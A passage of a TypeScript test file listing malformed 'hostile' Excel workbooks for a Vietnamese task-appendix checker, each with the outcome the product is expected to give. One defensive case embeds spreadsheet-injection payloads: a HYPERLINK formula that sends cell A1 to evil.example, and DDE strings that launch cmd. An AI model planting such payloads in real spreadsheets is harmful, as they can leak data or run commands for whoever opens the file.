/**
 * The hostile corpus: workbooks officers and consolidators really send, each named for what is wrong with it, how
 * it is built, and what the product must make of it. The files are generated (test/hostile/corpus-files.ts writes
 * them to a temporary folder); none is kept in git.
 *
 * An expected outcome is one of: the file cannot be used (and the one-line reason says why), no table (and the hint
 * says what the sheet looks like instead), or the tables found — where, how many sections and tasks, exactly which
 * errors, and some warnings, infos and cell readings that must be there.
 */
import { encodeLegacy } from "../../src/core/legacy/encoding";
import { TaskField } from "../../src/core/kinds/tasks/fields";
import { SETTING_KEYS } from "../../src/excel/workbook-settings";
import { ReadFailure } from "../../src/xlsx/read";
import { ExcelHost } from "../excel-host";
import { encryptedWorkbook, legacyXlsWorkbook } from "./ole-container";
import { APPENDIX, appendixSheet, BODY, HEADER, SheetSpec, TITLE, Value, workbook } from "./workbooks";
import { beforeSheetDataEnd, rewriteParts, withDimension, withMergeRefs } from "./xlsx-parts";
import { LIMIT_CASES } from "./corpus-limits";
import { XML_CASES } from "./corpus-xml";

export interface ExpectedTable {
  sheet: string;
  range: string;
  headerRow: number;
  columns: Partial<Record<TaskField, string>>;
  sections: number;
  tasks: number;
  /** Every error the check gives, as [code, cell], in row order. */
  errors: Array<[string, string | null]>;
  /** Warnings and infos that must be among the others, as [code, cell]. */
  notes?: Array<[string, string | null]>;
  /** Fields of task rows as read: [sheet row, field, text or a pattern it matches]. */
  reads?: Array<[number, TaskField, string | RegExp]>;
  /** Suggested fixes of issues, by cell. */
  suggests?: Record<string, string>;
  /** What the messages say (in English), by cell: some issue of the cell says it. */
  says?: Record<string, RegExp>;
}

/** Where a case is read: the fast XML reader (both commands), ExcelJS (the fallback, the pane), the command line, the add-in. */
export type Layer = "reader" | "exceljs" | "check" | "consolidate" | "add-in";

export type Expected =
  /** The file is refused before any sheet is read, for this reason. */
  | { kind: "unusable"; reason: ReadFailure; says: RegExp }
  /** Sheets are read but none holds a table; `hints` gives each sheet's no-table hint ("" for none). */
  | { kind: "no-table"; hints: Record<string, string> }
  /** These tables and no others. */
  | { kind: "tables"; tables: ExpectedTable[] };

export interface HostileCase {
  /** The file's name without ".xlsx": what is wrong with it. */
  name: string;
  /** How it is built. */
  built: string;
  build(): Promise<Uint8Array>;
  expected: Expected;
  /** What ExcelJS makes of it when that differs from `expected` and is still a clear result. */
  exceljs?: Expected;
  /** What the add-in finds when Excel, having opened the file, holds something else (it computes formulas). */
  inExcel?: Expected;
  /**
   * Layers where the product is still wrong, with what is wrong and the fix; their outcome tests are marked failing
   * (the fix lies in a module another engineer is changing).
   */
  gaps?: Partial<Record<Layer, string>>;
  /** Sheets the user made that must come through everything unchanged, besides the table's own. */
  userSheets?: string[];
  /** The add-in refuses to read the sheet, saying this; the table, selected, reads as `expected`. */
  addInRefuses?: RegExp;
  /** What the case needs in the in-memory Excel host beyond its cells (formatting, the add-in's earlier records). */
  inHost?: (host: ExcelHost) => void;
}

// ---------------------------------------------------------------------------------------------------------
// Shared expectations

const COLUMNS = { stt: "A", content: "B", lead: "C", coordinating: "D", timeframe: "E" };

/** The clean appendix where APPENDIX puts it: header on row 3, sections on rows 4 and 7, tasks on 5, 6, 8, 9. */
const CLEAN: ExpectedTable = {
  sheet: "Phụ lục",
  range: "A3:E9",
  headerRow: 3,
  columns: COLUMNS,
  sections: 2,
  tasks: 4,
  errors: [],
};

const clean = (over: Partial<ExpectedTable> = {}): Expected => ({ kind: "tables", tables: [{ ...CLEAN, ...over }] });

/** The appendix moved down by `by` rows: the same table, its cells renamed. */
function shifted(by: number, over: Partial<ExpectedTable> = {}): ExpectedTable {
  return { ...CLEAN, range: `A${3 + by}:E${9 + by}`, headerRow: 3 + by, ...over };
}

const one = (spec: SheetSpec) => () => workbook([spec]);

const SHEET1 = "xl/worksheets/sheet1.xml";

/** The body with one field of each task replaced: [sheet row of APPENDIX, column index, value]. */
function appendixWith(changes: Array<[number, number, Value]>): Value[][] {
  const rows = APPENDIX.map((r) => [...r]);
  for (const [row, col, value] of changes) {
    while (rows.length < row) rows.push([]);
    const r = rows[row - 1];
    while (r.length <= col) r.push(null);
    r[col] = value;
  }
  return rows;
}

const LONG_CONTENT = "Tổ chức đoàn công tác xúc tiến thương mại, đầu tư và du lịch tại các địa phương đối tác; "
  .repeat(400)
  .slice(0, 32_000);
const LONG_LEAD = "Sở Ngoại vụ; Sở Tài chính; ".repeat(1200).slice(0, 32_000);
const LONG_TIMEFRAME = "Quý IV/2025 ".repeat(2700).slice(0, 32_000);

/** A body whose every logical row is two sheet rows, each field merged down over both (rows 4–15). */
function doubleRows(): { rows: Value[][]; merges: string[] } {
  const rows: Value[][] = [...TITLE, HEADER];
  const merges: string[] = [];
  BODY.forEach((r, i) => {
    const top = 4 + i * 2;
    rows.push([...r], []);
    const width = r.length === 2 ? 1 : 5;
    if (r.length === 2) merges.push(`A${top}:A${top + 1}`, `B${top}:E${top + 1}`);
    else for (let c = 0; c < width; c++) merges.push(`${"ABCDE"[c]}${top}:${"ABCDE"[c]}${top + 1}`);
  });
  return { rows, merges };
}

/** Rows 21 to 1,048,576 formatted but empty, as Excel writes a sheet whose rows were formatted down to its end. */
function formattedToSheetEnd(xml: string): string {
  const rows: string[] = [];
  for (let r = 21; r <= 1_048_576; r++) rows.push(`<row r="${r}" spans="1:5" s="1" customFormat="1"/>`);
  const withCols = xml.replace("<sheetData>", '<cols><col min="1" max="16384" width="12" style="1" customWidth="1"/></cols><sheetData>');
  return withDimension(beforeSheetDataEnd(withCols, rows.join("")), "A1:XFD1048576");
}

const CSV = [HEADER, ...BODY].map((r) => r.map((v) => `"${String(v ?? "").replace(/"/g, '""')}"`).join(",")).join("\r\n");

/** A weekly work schedule (lịch công tác): a table, but not an appendix of tasks. */
const SCHEDULE: Value[][] = [
  ["LỊCH CÔNG TÁC TUẦN 12/2025"],
  ["Ngày", "Thời gian", "Nội dung", "Lãnh đạo chủ trì", "Địa điểm"],
  ["Thứ Hai 17/3", "8h00", "Giao ban tuần", "Giám đốc Sở", "Phòng họp 1"],
  ["Thứ Ba 18/3", "14h00", "Làm việc với đoàn Hàn Quốc", "Phó Giám đốc Sở", "Hội trường"],
];

// ---------------------------------------------------------------------------------------------------------
// The cases

const FIRST_ROUND: HostileCase[] = [
  {
    name: "no-header",
    built: "ExcelJS: the title and the task rows, no header row",
    build: one({ name: "Phụ lục", rows: [...TITLE, ...BODY] }),
    expected: { kind: "no-table", hints: { "Phụ lục": "no-header" } },
  },
  {
    name: "two-header-rows",
    built: 'ExcelJS: "Cơ quan thực hiện" merged over "Chủ trì" | "Phối hợp" on a second header row; the other headers merged down',
    build: one({
      name: "Phụ lục",
      rows: [
        ...TITLE,
        ["STT", "Nội dung nhiệm vụ", "Cơ quan thực hiện", null, "Thời gian thực hiện"],
        [null, null, "Chủ trì", "Phối hợp", null],
        ...BODY,
      ],
      merges: ["A3:A4", "B3:B4", "C3:D3", "E3:E4"],
    }),
    expected: { kind: "tables", tables: [{ ...CLEAN, range: "A3:E10", tasks: 4 }] },
  },
  {
    name: "header-twice",
    built: "ExcelJS: the header row pasted twice, one under the other",
    build: one({ name: "Phụ lục", rows: [...TITLE, HEADER, HEADER, ...BODY] }),
    expected: clean({ range: "A3:E10" }),
  },
  {
    name: "header-only",
    built: "ExcelJS: title and header, no row under them",
    build: one({ name: "Phụ lục", rows: [...TITLE, HEADER] }),
    expected: clean({ range: "A3:E3", sections: 0, tasks: 0 }),
  },
  {
    name: "header-in-row-200",
    built: "ExcelJS: the title on rows 198–199, the header on row 200",
    build: one({ name: "Phụ lục", rows: APPENDIX, firstRow: 198 }),
    expected: { kind: "tables", tables: [shifted(197)] },
  },
  {
    name: "header-in-row-1200",
    built: "ExcelJS: 1,197 empty rows, then the whole appendix (the header search starts at the first filled row)",
    build: one({ name: "Phụ lục", rows: APPENDIX, firstRow: 1198 }),
    expected: { kind: "tables", tables: [shifted(1197)] },
  },
  {
    name: "columns-in-unusual-order",
    built: "ExcelJS: Thời gian | Phối hợp | Ghi chú | Nội dung | STT | Chủ trì",
    build: one({
      name: "Phụ lục",
      rows: APPENDIX.map((r, i) =>
        i < 2 ? r : [r[4] ?? null, r[3] ?? null, i === 2 ? "Ghi chú" : null, r[1] ?? null, r[0] ?? null, r[2] ?? null],
      ),
    }),
    expected: clean({ range: "A3:F9", columns: { timeframe: "A", coordinating: "B", content: "D", stt: "E", lead: "F" } }),
  },
  {
    name: "duplicated-header-names",
    built: 'ExcelJS: "Nội dung nhiệm vụ" and "Cơ quan chủ trì" each twice; the second copies hold other text',
    build: one({
      name: "Phụ lục",
      rows: APPENDIX.map((r, i) =>
        i < 2 ? r : i === 2 ? [...HEADER, "Nội dung nhiệm vụ", "Cơ quan chủ trì"] : r.length > 2 ? [...r, "Chi tiết", "Ghi chú riêng"] : r,
      ),
    }),
    expected: clean({ range: "A3:G9" }),
  },
  {
    name: "every-cell-merged-double-rows",
    built: "ExcelJS: every row of the table written as two sheet rows, every cell merged down over both",
    build: async () => {
      const { rows, merges } = doubleRows();
      return workbook([{ name: "Phụ lục", rows, merges }]);
    },
    expected: clean({ range: "A3:E14", reads: [[8, "lead", "Sở Tài chính"]] }),
  },
  {
    name: "merged-in-odd-shapes",
    built:
      "ExcelJS: title 2×5, header 2 rows tall, a lead merged down over two tasks, a 2×2 lead+coordinating block, a timeframe merged across two sections",
    build: one({
      name: "Phụ lục",
      rows: [
        ["PHỤ LỤC (Kèm theo Kế hoạch số 12/KH-UBND ngày 10/01/2025 của UBND tỉnh)"],
        [],
        HEADER,
        [],
        ["I. Hợp tác quốc tế"],
        [1, "Tổ chức hội nghị xúc tiến đầu tư với đối tác Hàn Quốc", "Sở Ngoại vụ", "Sở Tài chính", "Quý IV/2025"],
        [2, "Xây dựng kế hoạch đón đoàn doanh nghiệp Nhật Bản", null, "Sở Công Thương", "Tháng 6/2025"],
        ["II", "Thông tin đối ngoại"],
        [1, "Biên soạn tài liệu giới thiệu tiềm năng của tỉnh", "Sở Văn hóa, Thể thao và Du lịch", null, "Năm 2025"],
        [null, null, null, null, null],
        [2, "Tập huấn công tác thông tin đối ngoại cho cán bộ cấp huyện", "Sở Ngoại vụ", "Công an tỉnh"],
      ],
      merges: ["A1:E2", "A3:A4", "B3:B4", "C3:C4", "D3:D4", "E3:E4", "A5:E5", "C6:C7", "B8:D8", "C9:D10", "A9:A10", "B9:B10", "E7:E11"],
    }),
    expected: {
      kind: "tables",
      tables: [
        {
          ...CLEAN,
          range: "A3:E11",
          tasks: 4,
          errors: [],
          notes: [["missing-coordinating", "D9"]],
          reads: [
            [7, "lead", "Sở Ngoại vụ"],
            [11, "timeframe", "Tháng 6/2025"],
          ],
        },
      ],
    },
  },
  {
    name: "merges-past-the-table",
    built:
      "ExcelJS merges, then their XML refs grown: a section row to column XFD, a lead to row 1,048,576, blocks A12:B1048576 and D12:XFD1048576",
    build: async () => {
      const rows = appendixWith([
        [4, 0, "I. Hợp tác quốc tế"],
        [4, 1, null],
        [7, 0, "II. Thông tin đối ngoại"],
        [7, 1, null],
        [12, 0, "Ghi chú: bảng kết thúc ở đây"],
      ]);
      const bytes = await workbook([{ name: "Phụ lục", rows, merges: ["A4:E4", "C9:C10", "A12:B13", "D12:E13"] }]);
      return rewriteParts(bytes, {
        [SHEET1]: (xml) =>
          withMergeRefs(xml, { "A4:E4": "A4:XFD4", "C9:C10": "C9:C1048576", "A12:B13": "A12:B1048576", "D12:E13": "D12:XFD1048576" }),
      });
    },
    expected: clean({ reads: [[9, "lead", "Sở Ngoại vụ"]] }),
  },
  {
    name: "merge-over-the-rest-of-the-sheet",
    built: 'ExcelJS, then XML: under the table one merged area A11:XFD1048576 headed "Nơi nhận", and a stray value left in XFD1048576',
    build: async () => {
      const rows = appendixWith([[11, 0, "Nơi nhận: như trên"]]);
      const bytes = await workbook([{ name: "Phụ lục", rows, merges: ["A11:B12"] }]);
      return rewriteParts(bytes, {
        [SHEET1]: (xml) =>
          withDimension(
            beforeSheetDataEnd(
              withMergeRefs(xml, { "A11:B12": "A11:XFD1048576" }),
              '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>',
            ),
            "A1:XFD1048576",
          ),
      });
    },
    expected: clean(),
  },
  {
    name: "cells-of-32000-characters",
    built: "ExcelJS: a content, a lead (2,400 agencies) and a timeframe of 32,000 characters each",
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [5, 1, LONG_CONTENT],
        [6, 2, LONG_LEAD],
        [8, 4, LONG_TIMEFRAME],
      ]),
    }),
    expected: clean({
      errors: [],
      notes: [
        ["duplicate-agency", "C6"],
        ["unknown-agency", "C6"],
        ["lead-also-coordinating", "D6"],
        // No unparsed-timeframe at E8: a timeframe that names periods is read by its first one (issue 11), and this
        // one names "Quý IV/2025" 2,700 times.
      ],
      says: { C6: /“Sở Tài chính” is listed twice in one cell/ },
      reads: [
        [5, "content", /^Tổ chức đoàn công tác(.|\n){31000,}/],
        [6, "lead", /^Sở Ngoại vụ; Sở Tài chính; /],
      ],
    }),
  },
  {
    name: "error-values",
    built: "ExcelJS error values: #N/A as a lead, #REF! as a timeframe, #DIV/0! as a content, #VALUE! as coordinating agencies",
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [5, 2, { error: "#N/A" }],
        [6, 4, { error: "#REF!" }],
        [8, 1, { error: "#DIV/0!" }],
        [9, 3, { error: "#VALUE!" }],
      ]),
    }),
    expected: clean({
      errors: [
        ["error-value", "C5"],
        ["error-value", "E6"],
        ["error-value", "B8"],
        ["error-value", "D9"],
      ],
      says: { C5: /^The cell holds the error value #N\/A\.$/, E6: /error value #REF!/ },
    }),
  },
  {
    name: "formulas",
    built:
      'ExcelJS formulas with cached results: numbering =A5+1, a content =HYPERLINK(…), a lead ="Sở "&"Ngoại vụ", a timeframe ="Quý "&"IV/2025"',
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [6, 0, { formula: "A5+1", result: 2 }],
        [
          5,
          1,
          {
            formula: 'HYPERLINK("http://example.com/hoi-nghi","Tổ chức hội nghị xúc tiến đầu tư với đối tác Hàn Quốc")',
            result: "Tổ chức hội nghị xúc tiến đầu tư với đối tác Hàn Quốc",
          },
        ],
        [8, 2, { formula: '"Sở "&"Văn hóa, Thể thao và Du lịch"', result: "Sở Văn hóa, Thể thao và Du lịch" }],
        [9, 4, { formula: '"Thường "&"xuyên"', result: "Thường xuyên" }],
      ]),
    }),
    expected: clean({
      notes: [
        ["formula-cell", "B5"],
        ["formula-cell", "A6"],
        ["formula-cell", "C8"],
        ["formula-cell", "E9"],
      ],
      reads: [
        [5, "content", "Tổ chức hội nghị xúc tiến đầu tư với đối tác Hàn Quốc"],
        [9, "timeframe", "Thường xuyên"],
      ],
    }),
  },
  {
    name: "formulas-without-cached-values",
    built: "the formulas case with every <v> of a formula cell taken out of the XML (files written by scripts)",
    build: async () => {
      const bytes = await HOSTILE_CASES.find((c) => c.name === "formulas")!.build();
      return rewriteParts(bytes, { [SHEET1]: (xml) => xml.replace(/(<\/f>)<v>[^<]*<\/v>/g, "$1") });
    },
    expected: clean({
      errors: [
        ["missing-content", "B5"],
        ["missing-stt", "A6"],
        ["missing-lead", "C8"],
        ["missing-timeframe", "E9"],
      ],
      notes: [
        ["formula-cell", "B5"],
        ["formula-cell", "A6"],
      ],
      says: { B5: /The file holds no result for it \(written by another program\?\): open it in Excel, save it, and check again/ },
    }),
    // Excel computes the formulas when it opens the file: the add-in reads their values.
    inExcel: clean({
      notes: [
        ["formula-cell", "B5"],
        ["formula-cell", "A6"],
        ["formula-cell", "C8"],
        ["formula-cell", "E9"],
      ],
      reads: [[8, "lead", "Sở Văn hóa, Thể thao và Du lịch"]],
    }),
  },
  {
    name: "formula-injection-text",
    built: "ExcelJS text cells that a careless writer would turn into formulas: =HYPERLINK(…), +cmd|' /C calc'!A0, @SUM(1+1), -2+3",
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [5, 1, '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'],
        [6, 2, "+cmd|' /C calc'!A0"],
        [8, 3, "@SUM(1+1)*cmd|' /C calc'!A0"],
        [9, 4, "-2+3"],
      ]),
    }),
    expected: clean({
      notes: [
        ["unknown-agency", "C6"],
        ["unknown-agency", "D8"],
        ["unparsed-timeframe", "E9"],
      ],
      reads: [
        [5, "content", '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'],
        [6, "lead", "+cmd|' /C calc'!A0"],
        [9, "timeframe", "-2+3"],
      ],
    }),
  },
  {
    name: "dates-and-numbers-in-text-columns",
    built:
      "ExcelJS: a number as a content, a date as a lead, a fraction as coordinating agencies, a date (30/11/2025) and a year (2025) as timeframes",
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [5, 1, 12345],
        [6, 2, new Date(Date.UTC(2025, 2, 1))],
        [8, 3, 0.5],
        [8, 4, new Date(Date.UTC(2025, 10, 30))],
        [9, 4, 2025],
      ]),
      formats: { C6: "dd/mm/yyyy", E8: "dd/mm/yyyy" },
    }),
    expected: clean({
      notes: [
        ["unknown-agency", "C6"],
        ["unknown-agency", "D8"],
      ],
      says: { C6: /The agency “1\/3\/2025” is not in the directory/, D8: /The agency “0\.5” is not in the directory/ },
      reads: [
        [5, "content", "12345"],
        [8, "timeframe", "30/11/2025"],
        [9, "timeframe", "2025"],
      ],
    }),
  },
  {
    name: "stt-as-numbers",
    built: 'ExcelJS: numbers 1–4 formatted "00" (shown 01, 02 …), numbering on across the sections',
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [8, 0, 3],
        [9, 0, 4],
      ]),
      formats: { A5: "00", A6: "00", A8: "00", A9: "00" },
    }),
    expected: clean({ reads: [[9, "stt", "4"]] }),
  },
  {
    name: "stt-as-text",
    built: 'ExcelJS: numbering typed as text: "1", "2.", "(1)", " 2 "',
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [5, 0, "1"],
        [6, 0, "2."],
        [8, 0, "(1)"],
        [9, 0, " 2 "],
      ]),
    }),
    expected: clean({ reads: [[6, "stt", "2."]] }),
  },
  {
    name: "stt-as-dates",
    built: 'ExcelJS: hierarchical numbers Excel turned into dates ("1.1" became 1 January, "1.2" 1 February), formatted d/m',
    build: one({
      name: "Phụ lục",
      rows: appendixWith([
        [5, 0, new Date(Date.UTC(2025, 0, 1))],
        [6, 0, new Date(Date.UTC(2025, 1, 1))],
        [8, 0, new Date(Date.UTC(2025, 0, 2))],
        [9, 0, new Date(Date.UTC(2025, 1, 2))],
      ]),
      formats: { A5: "d/m", A6: "d/m", A8: "d/m", A9: "d/m" },
    }),
    expected: clean({
      errors: [
        ["missing-stt", "A5"],
        ["missing-stt", "A6"],
        ["missing-stt", "A8"],
        ["missing-stt", "A9"],
      ],
      suggests: { A5: "1.1", A6: "1.2", A8: "2.1", A9: "2.2" },
      says: { A5: /The cell holds the date 1\/1\/2025: Excel probably turned “1\.1” into a date; type it again as text \('1\.1\)/ },
      reads: [[5, "stt", "1/1/2025"]],
    }),
  },
  {
    name: "stt-decimals-1.10-as-1.1",
    built: "ExcelJS: hierarchical numbers kept as numbers: 1.1, 1.2 … and 1.10, which a number cannot tell from 1.1",
    build: one({
      name: "Phụ lục",
      rows: [
        ...TITLE,
        HEADER,
        ["I", "Hợp tác quốc tế"],
        ...Array.from({ length: 10 }, (_, i): Value[] => [
          Number(`1.${i + 1}`),
          `Nhiệm vụ hợp tác số ${i + 1} với tỉnh bạn`,
          "Sở Ngoại vụ",
          "Sở Tài chính",
          "Năm 2025",
        ]),
      ],
    }),
    expected: {
      kind: "tables",
      tables: [
        {
          ...CLEAN,
          range: "A3:E14",
          sections: 1,
          tasks: 10,
          errors: [["duplicate-stt", "A14"]],
          reads: [[14, "stt", "1.1"]],
          says: { A14: /Number 1\.1 is used twice in section I \(also at row 5\)/ },
        },
      ],
    },
  },
  {
    name: "hidden-rows-and-columns",
    built: "ExcelJS: task rows 6 and 8 hidden, the coordinating column D hidden",
    build: one(appendixSheet("Phụ lục", { hiddenRows: [6, 8], hiddenColumns: [4] })),
    expected: clean({ reads: [[6, "lead", "Sở Tài chính"]] }),
  },
  {
    name: "autofilter-with-rows-filtered-out",
    built: 'ExcelJS autofilter on A3:E9, then a filterColumn (lead = "Sở Ngoại vụ") put in the XML and the other task rows hidden',
    build: async () => {
      const bytes = await workbook([appendixSheet("Phụ lục", { autoFilter: "A3:E9", hiddenRows: [4, 6, 7, 8] })]);
      return rewriteParts(bytes, {
        [SHEET1]: (xml) =>
          xml.replace(
            /<autoFilter ref="A3:E9"\/>/,
            '<autoFilter ref="A3:E9"><filterColumn colId="2"><filters><filter val="Sở Ngoại vụ"/></filters></filterColumn></autoFilter>',
          ),
      });
    },
    expected: clean(),
  },
  {
    name: "sheet-name-31-characters",
    built: "ExcelJS: the appendix on a sheet named with the full 31 characters",
    build: one(appendixSheet("Phụ lục nhiệm vụ năm 2025 (bản)")),
    expected: clean({ sheet: "Phụ lục nhiệm vụ năm 2025 (bản)" }),
  },
  {
    name: "sheet-name-with-quotes",
    built: "ExcelJS: the appendix on a sheet named Phụ lục 'A' của Sở \"Ngoại vụ\"",
    build: one(appendixSheet("Phụ lục 'A' của Sở \"Ngoại vụ\"")),
    expected: clean({ sheet: "Phụ lục 'A' của Sở \"Ngoại vụ\"" }),
  },
  {
    name: "formatting-to-row-1048576",
    built:
      "ExcelJS, then XML: 20 rows of data, a column style over A:XFD, rows 21 to 1,048,576 written as formatted empty rows, dimension A1:XFD1048576",
    build: async () => {
      const more: Value[][] = Array.from({ length: 11 }, (_, i) => [
        i + 3,
        `Tổ chức đoàn xúc tiến số ${i + 3} tại địa phương đối tác`,
        "Sở Ngoại vụ",
        "Sở Tài chính",
        "Năm 2025",
      ]);
      const bytes = await workbook([{ name: "Phụ lục", rows: [...APPENDIX, ...more], formats: { A3: "@" } }]);
      return rewriteParts(bytes, { [SHEET1]: formattedToSheetEnd }, { stored: [SHEET1] });
    },
    expected: clean({ range: "A3:E20", tasks: 15 }),
    inHost: (host) => {
      host.sheet("Phụ lục").format("A:XFD", { fill: "#FFF2CC" });
    },
  },
  {
    name: "value-in-the-last-cell",
    built: "ExcelJS: the appendix, and a stray full stop in XFD1048576",
    build: async () => {
      const bytes = await workbook([appendixSheet()]);
      return rewriteParts(bytes, {
        [SHEET1]: (xml) =>
          withDimension(
            beforeSheetDataEnd(xml, '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>.</t></is></c></row>'),
            "A1:XFD1048576",
          ),
      });
    },
    expected: clean(),
    // Excel's used range is A1:XFD1048576: the add-in refuses to read 17 billion cells and asks for the table to be selected.
    addInRefuses: /holds 17,179,869,184 cells \(at most 10,000,000 are read\): select the table and check the selection/,
  },
  {
    name: "dimension-that-lies",
    built: 'ExcelJS, then XML: <dimension ref="A1"/> on a sheet whose data runs to E9',
    build: async () => rewriteParts(await workbook([appendixSheet()]), { [SHEET1]: (xml) => withDimension(xml, "A1") }),
    expected: clean(),
  },
  {
    name: "zero-byte",
    built: "an empty file",
    build: async () => new Uint8Array(0),
    expected: { kind: "unusable", reason: "empty-file", says: /empty \(0 bytes\)/ },
  },
  {
    name: "csv-renamed-xlsx",
    built: "the appendix as UTF-8 CSV with a BOM, named .xlsx",
    build: async () => new TextEncoder().encode(`\ufeff${CSV}\r\n`),
    expected: { kind: "unusable", reason: "not-xlsx", says: /not an \.xlsx workbook \(it looks like text or CSV/ },
  },
  {
    name: "encrypted-workbook",
    built: 'byte by byte: an OLE compound file with "EncryptionInfo" and "EncryptedPackage" streams',
    build: async () => encryptedWorkbook(),
    expected: { kind: "unusable", reason: "encrypted", says: /password-protected \(encrypted\); save an unprotected copy/ },
  },
  {
    name: "legacy-xls-renamed",
    built: 'byte by byte: an OLE compound file with a BIFF8 "Workbook" stream (an Excel 97-2003 file named .xlsx)',
    build: async () => legacyXlsWorkbook(),
    expected: { kind: "unusable", reason: "legacy-xls", says: /Excel 97-2003 \(\.xls\).*save it as \.xlsx/ },
  },
  {
    name: "truncated-zip",
    built: "the clean appendix workbook cut after 60% of its bytes (a download that stopped)",
    build: async () => {
      const bytes = await workbook([appendixSheet()]);
      return bytes.slice(0, Math.floor(bytes.length * 0.6));
    },
    expected: { kind: "unusable", reason: "corrupt", says: /damaged or truncated/ },
  },
  {
    name: "zip-not-a-workbook",
    built: "JSZip: a zip archive holding a text file and a picture, named .xlsx",
    build: async () => {
      const JSZip = (await import("jszip")).default;
      const zip = new JSZip();
      zip.file("ghi-chu.txt", "Danh sách nhiệm vụ gửi kèm");
      zip.file("anh.png", new Uint8Array([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]));
      return zip.generateAsync({ type: "uint8array", compression: "DEFLATE" });
    },
    expected: {
      kind: "unusable",
      reason: "corrupt",
      says: /^the workbook is damaged or truncated and cannot be opened \(it holds no worksheet\)$/,
    },
  },
  {
    name: "damaged-sheet-xml",
    built: "the clean appendix with its sheet XML cut in the middle of a row",
    build: async () => rewriteParts(await workbook([appendixSheet()]), { [SHEET1]: (xml) => xml.slice(0, xml.indexOf('<row r="6"') + 20) }),
    expected: { kind: "unusable", reason: "corrupt", says: /^the workbook is damaged or truncated and cannot be opened$/ },
  },
  {
    name: "missing-worksheet-part",
    built: "the clean appendix with xl/worksheets/sheet1.xml taken out of the zip",
    build: async () => rewriteParts(await workbook([appendixSheet()]), { [SHEET1]: () => null }),
    expected: { kind: "unusable", reason: "corrupt", says: /\(the sheet "Phụ lục" is missing from the file\)$/ },
  },
  {
    name: "one-of-two-sheets-missing",
    built: "a cover sheet and the appendix, with the appendix's part (xl/worksheets/sheet2.xml) taken out of the zip",
    build: async () =>
      rewriteParts(await workbook([{ name: "Trang bìa", rows: [["KẾ HOẠCH"]] }, appendixSheet()]), {
        "xl/worksheets/sheet2.xml": () => null,
      }),
    expected: { kind: "unusable", reason: "corrupt", says: /\(the sheet "Phụ lục" is missing from the file\)$/ },
  },
  {
    name: "invalid-character-references",
    built: "the clean appendix with a lone surrogate (&#xD800;), a control character (&#x1;) and &#xFFFF; put into a content cell's XML",
    build: async () =>
      rewriteParts(await workbook([appendixSheet()]), {
        "xl/sharedStrings.xml": (xml) => xml.replace("Tổ chức hội nghị", "Tổ chức &#xD800;hội&#x1; nghị&#xFFFF;"),
      }),
    expected: clean({ reads: [[5, "content", /^Tổ chức .*hội.* nghị/]] }),
    exceljs: { kind: "unusable", reason: "corrupt", says: /damaged or truncated and cannot be opened \(.*malformed character entity/ },
  },
  {
    name: "overlapping-merges",
    built: "ExcelJS merges, then the XML: a section row A4:E4 and a lead C4:C6 that overlap (Excel repairs such files)",
    build: async () => {
      const rows = appendixWith([
        [4, 0, "I. Hợp tác quốc tế"],
        [4, 1, null],
      ]);
      const bytes = await workbook([{ name: "Phụ lục", rows, merges: ["A4:E4", "C5:C6"] }]);
      return rewriteParts(bytes, { [SHEET1]: (xml) => withMergeRefs(xml, { "C5:C6": "C4:C6" }) });
    },
    // The reader empties the cells the second area covers (C5 with its lead); the first area stands for the rest.
    expected: clean({
      errors: [
        ["missing-lead", "C5"],
        ["missing-lead", "C6"],
      ],
      reads: [[4, "stt", "I. Hợp tác quốc tế"]],
    }),
  },
  {
    name: "two-hundred-sheets",
    built: "ExcelJS: 200 sheets of notes; the appendix on the 137th, a second copy of it on the 200th",
    build: async () => {
      const sheets: SheetSpec[] = [];
      for (let i = 1; i <= 200; i++) {
        if (i === 137) sheets.push(appendixSheet("Phụ lục"));
        else if (i === 200) sheets.push(appendixSheet("Phụ lục (2)"));
        else sheets.push({ name: `Ghi chú ${i}`, rows: [[`Ghi chú số ${i}`], ["Nơi nhận: như trên"]] });
      }
      return workbook(sheets);
    },
    expected: { kind: "tables", tables: [CLEAN, { ...CLEAN, sheet: "Phụ lục (2)" }] },
  },
  {
    name: "user-sheets-named-like-ours",
    built: 'ExcelJS: the appendix beside the user\'s own "Danh sách lỗi", "Tổng hợp cơ quan", "Issues" and "Dữ liệu hợp nhất" sheets',
    build: () =>
      workbook([
        { name: "Danh sách lỗi", rows: [["Việc cần sửa (của tôi)"], ["Gọi lại Sở Tài chính"], ["=SUM(1,2)"]] },
        appendixSheet(),
        {
          name: "Tổng hợp cơ quan",
          rows: [
            ["Cơ quan", "Số nhiệm vụ"],
            ["Sở Ngoại vụ", 2],
          ],
        },
        { name: "Issues", rows: [["My own notes"]] },
        { name: "Dữ liệu hợp nhất", rows: [["Bản nháp"]] },
      ]),
    expected: clean(),
    userSheets: ["Danh sách lỗi", "Tổng hợp cơ quan", "Issues", "Dữ liệu hợp nhất"],
    // As if the add-in had once written "Danh sách lỗi" and the user then deleted it and made their own.
    inHost: (host) => host.setSetting(SETTING_KEYS.ownedSheets, ["Danh sách lỗi"]),
  },
  {
    name: "empty-workbook",
    built: "ExcelJS: one sheet, nothing in it",
    build: one({ name: "Sheet1" }),
    expected: { kind: "no-table", hints: { Sheet1: "empty" } },
  },
  {
    name: "table-on-a-very-hidden-sheet",
    built: 'ExcelJS: a visible cover sheet and the appendix on a "veryHidden" sheet',
    build: () =>
      workbook([
        { name: "Trang bìa", rows: [["KẾ HOẠCH"], ["Hợp tác quốc tế năm 2025"]] },
        appendixSheet("Phụ lục", { state: "veryHidden" }),
      ]),
    expected: clean(),
  },
  {
    name: "excel-table-with-totals-row",
    built: "ExcelJS: the header and body as an Excel table (ListObject) with a totals row",
    build: one({ name: "Phụ lục", rows: [HEADER, ...BODY], table: { name: "NhiemVu", ref: "A1", totalsRow: true } }),
    expected: { kind: "tables", tables: [{ ...CLEAN, range: "A1:E7", headerRow: 1 }] },
  },
  {
    name: "weekly-schedule-not-an-appendix",
